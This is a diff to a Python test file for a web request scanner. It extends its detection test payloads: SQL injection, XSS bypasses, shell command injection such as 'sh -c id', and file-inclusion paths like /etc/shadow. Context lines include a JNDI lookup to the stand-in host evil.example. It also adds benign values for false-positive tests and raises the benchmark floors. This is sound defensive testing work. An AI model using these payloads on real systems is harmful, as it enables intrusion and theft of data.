@@ -68,6 +68,9 @@ ATTACKS: dict[str, list[str]] = {
         "id=1 or 1=1",
         "password::int",
         "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
+        "msdb",
+        "sysobjects",
+        "DROP TABLE users;",
         "\u2019 OR \u20191\u2019=\u20191",  # typographic quotes
         "%27%20OR%201%3D1--",  # double-encoded: still encoded after the first decode
     ],
@@ -90,6 +93,12 @@ ATTACKS: dict[str, list[str]] = {
         "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
         "self['alert'](1)",
         "[].map.call`${eval}`",
+        "window.alert(1)",
+        "top[/al/.source+/ert/.source](1)",
+        "data:,alert(1)",
+        "<s/c/r/i/p/t>",
+        "<button formaction=javascript:alert(1)>",
+        "\\xbc/script\\xbe",  # US-ASCII "<" and ">" with the high bit set, as escapes
     ],
     "rce": [
         ";cat /etc/passwd",
@@ -109,6 +118,18 @@ ATTACKS: dict[str, list[str]] = {
         "${jndi:ldap://evil.example/a}",
         "& powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
         "/???/??t /???/p??s??",
+        ";set",
+        "; sleep 5",
+        "& net user",
+        "a && foo --bar",
+        "ls foo bar",
+        "python3.10 cmd",
+        "sh -c id",
+        "{,ifconfig}",
+        "cd ~+1",
+        "IF CMDEXTVERSION 2 echo ok",
+        "if 1 equ 1 whoami",
+        "%COMSPEC% /c dir",
     ],
     "lfi": [
         "../../etc/passwd",
@@ -124,6 +145,13 @@ ATTACKS: dict[str, list[str]] = {
         "file:///etc/shadow",
         "/.git/config",
         "/app/.env",
+        "%uff0e%uff0e%u2215etc%u2215passwd",  # IIS %u encoding, a division slash
+        "\ufffd" * 6 + "etc",  # overlong UTF-8 dots and slash (%c0%ae%c0%ae%c0%af), undecodable
+        "/etc/redhat-release",
+        "/.cursorrules",
+        "settings.php",  # a file name no upload may carry
+        "config.yml",
+        "kcore",
     ],
 }
 
@@ -386,9 +414,43 @@ _MIXED = [
     "AT&T", "Ben &amp; Jerry's", "&copy; 2026 Example Ltd.", "1 &lt; 2",
 ]  # fmt: skip
 
+# More everyday values: names and addresses with apostrophes, search queries made of SQL, shell
+# and HTML words, prices, Markdown and code people paste, Windows paths, file names.
+_EVERYDAY = [
+    "Seán O'Brien", "D'Arcy-Smith", "N'Golo Kanté", "Mary O'Neil-Ward", "Ng'ang'a", "Dell'Orto",
+    "12 O'Connell St, Dublin 1", "Flat 2/3, 14 King's Road; London SW3 4ND",
+    "1600 Amphitheatre Pkwy, Mountain View, CA 94043", "Rue de l'Église 5, 1000 Bruxelles",
+    "c/o Acme Ltd., P.O. Box 42", "Apt #12-B / 3rd floor",
+    "drop table lamp", "union station", "rm -rf advice", "select comfort sleep number", "delete account",
+    "where to buy sleep mask", "order by price", "cat food and dog food", "kill bill", "top 10 ls tractors",
+    "ping pong table", "how to use sudo", "script writing course", "iframe vs embed", "javascript tutorial",
+    "python 3 tutorial", "bash birthday party", "chmod calculator", "echo dot", "shell gas station",
+    "alert dog harness", "window cleaner", "document scanner", "onload event javascript", "eval function",
+    "sql union vs join", "insert coin", "group by in pandas", "ping 127.0.0.1", "regedit",
+    "$1,299.00", "€ 12,50", "£3.99/kg", "2 x 500ml", "20% off -- ends Sunday", "from $9/mo (billed yearly)",
+    "1-2 business days", "Q3 2026", "Mon\u2013Fri 9:00\u201317:30", "10/12 pcs", "3 for 2", "#1 best seller",
+    "## Steps to reproduce\n1. Open the app\n2. Click *Save*\n3. See error",
+    "The `SELECT` statement returns rows; `DELETE` removes them.",
+    "> **Note:** the API returns `null` when the field is empty.", "- [ ] write docs\n- [x] fix bug #123",
+    "Thanks!! :) <3 see you tomorrow", "lol :D that's great", "Wait... what?!", "hmm -- not sure",
+    "if (x > 0) { y = x; }", "for (let i = 0; i < n; i++) {}", "x = [1, 2, 3]; y = x[0]",
+    "def f(x): return x * 2", "if x == 1: return x", "SELECT is a keyword; so is FROM.",
+    "2 + 2 = 4; 3 * 3 = 9",
+    "a/b/c", "foo_bar-baz.v2", "key: value", "user@host:~$", "\\d{1,3} matches one to three digits",
+    "https://example.com/search?q=union+station&sort=relevance",
+    "https://example.com/blog/how-to-drop-a-table-in-postgres", "https://example.com/products/ls-400",
+    "https://github.com/org/repo/blob/main/src/app.py#L42", "https://example.com/a?redirect=%2Fhome",
+    "/users/42/orders?page=2&per_page=50", "C:\\Program Files\\Example\\app.exe",
+    "C:\\Windows\\Fonts\\arial.ttf", "C:\\Windows\\System32\\ls", "D:\\Photos\\2026\\IMG_0001.JPG",
+    "~/Downloads/report (final).pdf", "config.example.json", "docker-compose.override.yml", "notes.txt",
+    "backup-2026-03-14.zip", "index.html", "styles.min.css", "Hello! World.\ndata not found.",
+    '{"q": "drop table lamp", "filters": {"price": [10, 20]}}', '["a", "b", "c"]',
+    "first.o'reilly@example.com", "support+billing@example.co.uk",
+]  # fmt: skip
+
 BENIGN: list[str] = [
     *_NAMES, *_PROSE, *_MARKDOWN, *_URLS, *_VALUES, *_USER_AGENTS, *_COOKIES_AND_TOKENS, *_JSONISH,
-    *_PATHS_AND_FILES, *_MIXED,
+    *_PATHS_AND_FILES, *_MIXED, *_EVERYDAY,
 ]  # fmt: skip
 
 
@@ -413,8 +475,10 @@ def test_benign_set_false_positives_at_paranoia_2_are_rare() -> None:
 @given(st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", max_size=60))
 def test_alphanumerics_never_flag(value: str) -> None:
     finding = INSPECTOR.scan(value)
-    # Integer-overflow probes (2^31, 2^32, 2^63…) are flagged on purpose, as CRS rule 942220 does.
-    assert finding is None or finding.rule == "sqli.overflow", finding
+    # Integer-overflow probes (2^31, 2^32, 2^63…) are flagged on purpose, as CRS rule 942220 does, and
+    # so are a few whole words: system catalogues (msdb, sysobjects) and the names of kernel
+    # pseudo-files (kcore, mtrr) as a file name, as CRS rules 942140 and 932180 do.
+    assert finding is None or finding.rule in {"sqli.overflow", "sqli.schema", "lfi.restricted_file"}, finding
 
 
 @settings(max_examples=300, deadline=None)
@@ -693,10 +757,12 @@ def test_corpus_subset_meets_the_bar() -> None:
     assert len(cases) == 299  # stratified(corpus, 300): proportional per stratum, rounded
     report = bench.evaluate(cases, bench.Scanner())
     assert time.perf_counter() - start < 10.0
-    # Regression floors a little under today's measurement on this subset. The issue's bar (95% per
-    # family at paranoia 1, 85% overall, 2% benign false positives) is not met yet on the full
-    # corpus; docs/inspection.md says by how much, and `bench/inspection.py --assert` checks it.
-    assert bench.check(report, min_pl1=0.87, min_overall=0.83, max_benign_fp=0.02) == []
+    # Regression floors just under today's measurement on this subset (lowest family at paranoia 1:
+    # sqli 92.5%; all attacks 86.2%; benign false positives 1.8%). The issue's bar (95% per family at
+    # paranoia 1, 85% overall, 2% benign false positives) is not met on the full corpus (lfi and rce
+    # at paranoia 1, and false positives); docs/inspection.md says by how much, and
+    # `bench/inspection.py --assert` checks it.
+    assert bench.check(report, min_pl1=0.92, min_overall=0.86, max_benign_fp=0.02) == []
 
 
 @needs_corpus
